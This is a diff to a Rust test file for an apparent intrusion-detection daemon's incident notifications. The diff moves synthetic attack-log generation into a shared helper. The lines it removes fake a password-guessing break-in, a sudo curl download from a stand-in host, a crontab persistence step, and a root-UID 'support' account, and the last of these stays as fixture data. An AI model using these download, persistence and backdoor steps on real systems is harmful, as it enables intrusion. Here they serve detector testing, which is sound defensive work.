@@ -1,36 +1,23 @@
 //! People are told of every incident, whatever dies and however the other side behaves; and a notifier that does not work is shown.
 
 use std::collections::{BTreeMap, BTreeSet};
-use std::io::Write;
 use std::os::unix::fs::PermissionsExt;
 
 use serde_json::Value;
 
+use crate::break_in::break_in;
 use crate::harness::{Daemon, Site, dsmild, wait_for};
 use crate::notify_server::{Behaviour, MailServer, Security, Taken, Webhook};
 use crate::random::Random;
 
 const INPUT: &str = "[[intake.file]]\npath = \"{dir}/in.log\"\n";
 
-/// Somebody guesses a password, gets in, and stays: an incident that grows. Each attacker has a machine and an account of his own.
+/// An incident that grows. Each attacker has a machine and an account of his own.
 fn attack(site: &Site, number: u64) {
-    let mut file = std::fs::File::options().append(true).create(true).open(site.path("in.log")).unwrap();
     let (host, user, from) =
         (format!("host{number}"), format!("user{number}"), format!("203.0.{}.{}", number / 200, number % 200 + 1));
-    let mut second = 0;
-    let mut line = |text: &str| {
-        second += 1;
-        writeln!(file, "2026-11-20T10:{:02}:{:02}.{number:06}+00:00 {host} {text}", second / 60, second % 60).unwrap();
-    };
-    for _ in 0..25 {
-        line(&format!("sshd[7]: Failed password for {user} from {from} port 4242 ssh2"));
-    }
-    line(&format!("sshd[7]: Accepted password for {user} from {from} port 4242 ssh2"));
-    line(&format!(
-        "sudo:   {user} : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/x http://203.0.113.9/x"
-    ));
-    line(&format!("sudo:   {user} : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/crontab /tmp/x"));
-    line("useradd[8]: new user: name=support, UID=0, GID=0, home=/root, shell=/bin/bash, from=none");
+    let account = "useradd[8]: new user: name=support, UID=0, GID=0, home=/root, shell=/bin/bash, from=none";
+    break_in(site, &host, (&user, &from), (0, &format!(".{number:06}")), &[account]);
 }
 
 fn webhook(port: u16, more: &str) -> String {
